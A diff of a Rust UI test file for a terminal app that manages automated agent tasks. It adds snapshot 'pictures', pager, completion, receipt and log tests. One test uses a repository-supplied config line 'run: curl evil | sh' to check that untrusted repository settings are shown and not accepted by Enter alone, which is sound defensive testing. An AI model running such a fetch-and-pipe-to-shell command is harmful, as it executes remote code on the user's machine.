@@ -1,20 +1,29 @@
 //! The whole app on a stage: its cards, its command line, its keys.
 
+use std::fmt::Write as _;
+
 use dacapo_app::operations::act::{Operation, OperationResult};
 use dacapo_app::operations::background::Begun;
 use dacapo_app::operations::kind::{ByItself, StartsByItself};
+use dacapo_app::present::log::LogLines;
 use dacapo_app::question::{Answer, NotYet, Question};
+use dacapo_core::engine::Kinds;
+use dacapo_core::store::read;
 use jiff::SignedDuration;
 
 use super::effect::Act;
 use super::key::Key;
 use super::launch::Launch;
 use super::message::{Message, Signal};
-use super::testing::{Stage, a_day};
+use super::pager::Pager;
+use super::receipt;
+use super::sample::{self, Sample};
+use super::screen::Screen as _;
+use super::testing::{Look, Stage, a_day, pictures};
 use crate::config::{Brought, Entry};
 use crate::error::Failure;
 use crate::found_checks::FoundCheck;
-use crate::messages::Language;
+use crate::messages::{Messages, say};
 
 fn stage() -> Stage {
     let mut stage = Stage::new(80, 24);
@@ -29,13 +38,12 @@ fn start() -> Act {
 #[test]
 fn keys_are_explained_where_one_is() {
     let mut stage = stage();
-    insta::assert_snapshot!("help_80x24", stage.press(&[Key::Char('?')]).shown());
-    stage.press(&[Key::PageDown]);
+    stage.press(&[Key::Char('?'), Key::PageDown]);
     assert!(stage.shown().contains("proven: the checks passed on exactly that commit"), "{}", stage.shown());
     stage.press(&[Key::Esc]);
     assert!(!stage.shown().contains("Symbols"), "{}", stage.shown());
-    let mut chinese = Stage::in_language(160, 50, Language::SimplifiedChinese);
-    insta::assert_snapshot!("help_chinese_160x50", chinese.tasks(a_day()).press(&[Key::Char('?')]).shown());
+    pictures("help", |look| look.day().press(&[Key::Char('?')]).shown());
+    pictures("help_end", |look| look.day().press(&[Key::Char('?'), Key::End]).shown());
 }
 
 #[test]
@@ -86,8 +94,12 @@ fn a_question_of_an_operation_is_a_card_and_its_answer_goes_back() {
         let came = Err(NotYet::Ask(Box::new(question.clone())));
         stage.hear(Message::Acted { act: start(), came: Box::new(came) });
     };
+    pictures("question_checks", |look| {
+        let mut stage = look.day();
+        asks(&mut stage);
+        stage.shown()
+    });
     asks(&mut stage);
-    insta::assert_snapshot!("question_checks_80x24", stage.shown());
     stage.press(&[Key::Enter]);
     let mut yes = start();
     yes.answers.give(question.clone(), Answer::Yes);
@@ -106,10 +118,18 @@ fn a_question_of_an_operation_is_a_card_and_its_answer_goes_back() {
 #[test]
 fn r6_what_a_repository_brings_is_not_trusted_by_enter() {
     let mut stage = stage();
-    let entry = Entry::file("rehearsal.yaml", "run: curl evil | sh");
-    let brought = Brought::new(".dacapo/rehearsal.yaml", vec![entry]).unwrap();
-    let came = Err(NotYet::Ask(Box::new(Question::Trust { brought })));
-    stage.hear(Message::Acted { act: start(), came: Box::new(came) });
+    let asks = |stage: &mut Stage| {
+        let entry = Entry::file("rehearsal.yaml", "run: curl evil | sh");
+        let brought = Brought::new(".dacapo/rehearsal.yaml", vec![entry]).unwrap();
+        let came = Err(NotYet::Ask(Box::new(Question::Trust { brought })));
+        stage.hear(Message::Acted { act: start(), came: Box::new(came) });
+    };
+    pictures("question_trust", |look| {
+        let mut stage = look.day();
+        asks(&mut stage);
+        stage.shown()
+    });
+    asks(&mut stage);
     assert!(stage.shown().contains("curl evil | sh"), "{}", stage.shown());
     stage.press(&[Key::Enter]);
     assert!(stage.acts.is_empty());
@@ -119,10 +139,20 @@ fn r6_what_a_repository_brings_is_not_trusted_by_enter() {
 
 #[test]
 fn a_refusal_says_what_was_kept_and_what_to_do() {
+    let refused = |stage: &mut Stage| {
+        let failure = Failure::usage(say(|m| m.task_still_running("x")))
+            .kept(say(Messages::kept_nothing_started))
+            .hint(say(|m| m.slot_wait_or_pause("x")));
+        stage.hear(Message::Acted { act: start(), came: Box::new(Err(NotYet::Refused(failure))) });
+    };
+    pictures("refused", |look| {
+        let mut stage = look.day();
+        refused(&mut stage);
+        stage.shown()
+    });
     let mut stage = stage();
-    let failure = Failure::usage("Task 'x' is still running.").kept("everything").hint("kill it first");
-    stage.hear(Message::Acted { act: start(), came: Box::new(Err(NotYet::Refused(failure))) });
-    insta::assert_snapshot!("refused_80x24", stage.shown());
+    refused(&mut stage);
+    assert!(stage.shown().contains("kept:"), "{}", stage.shown());
     stage.press(&[Key::Down]);
     assert!(!stage.shown().contains("kept:"), "it is gone with the next key");
 }
@@ -144,9 +174,13 @@ fn m2_what_starts_by_itself_can_be_declined() {
         let wanted = stage.model.open(Box::new(Launch::new(task, stage.now)));
         assert!(wanted.is_empty());
     };
+    pictures("launch", |look| {
+        let mut stage = look.day();
+        card(&mut stage);
+        stage.shown()
+    });
     let mut stage = stage();
     card(&mut stage);
-    insta::assert_snapshot!("launch_80x24", stage.shown());
     stage.now += SignedDuration::from_millis(9_999);
     stage.hear(Message::Tick);
     assert!(stage.shown().contains("in 1 s"), "{}", stage.shown());
@@ -168,7 +202,13 @@ fn a_new_task_is_described_first() {
     let mut stage = stage();
     stage.press(&[Key::Char('n')]).types("Fix the tests");
     stage.press(&[Key::NewLine]).types("and the docs");
-    insta::assert_snapshot!("new_task_80x24", stage.shown());
+    pictures("new_task", |look| {
+        let mut stage = look.day();
+        stage.press(&[Key::Char('n')]).types("Fix the tests").press(&[Key::NewLine]);
+        stage
+            .types("修复解析器里的所有错误，并为每一个错误补上测试，直到全部测试都通过为止，然后更新文档")
+            .shown()
+    });
     // What cannot be prepared is said, and the form stays: the stage is in no repository.
     stage.press(&[Key::Enter]);
     assert!(stage.shown().contains("is not in a git repository"), "{}", stage.shown());
@@ -176,4 +216,92 @@ fn a_new_task_is_described_first() {
     stage.press(&[Key::Tab, Key::Tab, Key::Tab]).types("many").press(&[Key::Enter]);
     assert!(stage.shown().contains("Invalid loop condition: 'many'"), "{}", stage.shown());
     assert!(stage.acts.is_empty());
+}
+
+#[test]
+fn u1_what_will_run_is_reviewed() {
+    pictures("new_task_review", |look| {
+        let mut stage = look.day();
+        stage.press(&[Key::Char('n')]).types("Fix the failing tests").press(&[Key::Tab]).types("mybot");
+        stage.press(&[Key::Tab]).types("make test").press(&[Key::Enter]).shown()
+    });
+}
+
+#[test]
+fn u1_the_command_line_completes() {
+    let line = |look: Look| {
+        let mut stage = look.day();
+        stage.press(&[Key::Char('/')]);
+        stage
+    };
+    pictures("command_line", |look| line(look).shown());
+    pictures("completion", |look| line(look).types("re").press(&[Key::Tab, Key::Tab]).shown());
+    pictures("completion_flags", |look| line(look).types("spawn --").press(&[Key::Tab]).shown());
+}
+
+#[test]
+fn l9_checks_and_proof_are_a_page() {
+    let mut open = Sample::new("text");
+    open.workspace().baseline();
+    open.turn(0, b"x\n").turn_ends(0, true).iteration_ends(0, true, false);
+    let mut proven = Sample::new("text");
+    proven.workspace().baseline();
+    for iteration in 0..3 {
+        let passed = iteration == 2;
+        proven.turn(iteration, b"x\n").turn_ends(iteration, passed);
+        proven.iteration_ends(iteration, passed, passed);
+    }
+    proven.proven(3);
+    for (name, sample) in [("receipt", &proven), ("receipt_open", &open)] {
+        pictures(name, |look| {
+            let (mut view, messages) = (sample.view(), look.messages());
+            // A journal that was written by hand has no seal, so that nothing is proven by it.
+            view.result.iter_mut().for_each(|result| result.verified = true);
+            let text = receipt::receipt(&view, &sample.dir, messages);
+            let stage = sample::Stage::new(&view, messages);
+            let page = Pager::text(messages.receipt_title(), &text).of(stage.brief(), &stage.context(80, 24));
+            stage.draw(&page, look.columns, look.rows)
+        });
+    }
+}
+
+/// `dacapo logs` prints the same, with the user's own clock.
+fn log_of(sample: &Sample) -> String {
+    let mut lines = LogLines::for_task(&sample.dir.spec().unwrap(), Kinds::default());
+    let mut text = String::new();
+    read(&sample.dir.journal_path(), |line| {
+        for (_, words) in lines.lines(&line) {
+            writeln!(text, "[{}] {words}", line.at.strftime("%H:%M:%S")).unwrap();
+        }
+    })
+    .unwrap();
+    text
+}
+
+#[test]
+fn long_lines_of_a_page_go_on_below() {
+    let sample = Sample::paused();
+    let stage = sample::Stage::new(&sample.view(), Messages::ENGLISH);
+    let words: Vec<String> = (0..200).map(|nth| format!("word{nth:03}")).collect();
+    let mut page = Pager::text("page".into(), &format!("first\n{}\nlast", words.join(" ")));
+    let drawn = stage.draw(&page, 40, 12);
+    assert!(drawn.contains("word000 word001") && drawn.contains("word004"), "{drawn}");
+    page.key(Key::End, &stage.context(40, 12));
+    let drawn = stage.draw(&page, 40, 12);
+    assert!(drawn.contains("word199\nlast"), "{drawn}");
+    // A terminal that is wider has fewer lines.
+    assert!(stage.draw(&page, 160, 50).contains("first\nword000"), "{drawn}");
+}
+
+#[test]
+fn u1_the_log_is_a_page() {
+    let sample = Sample::paused();
+    pictures("log", |look| {
+        let messages = look.messages();
+        let stage = sample::Stage::new(&sample.view(), messages);
+        let context = stage.context(look.columns, look.rows);
+        let mut page = Pager::text(messages.tui_page_log(), &log_of(&sample)).of(stage.brief(), &context);
+        page.key(Key::End, &context);
+        stage.draw(&page, look.columns, look.rows)
+    });
 }
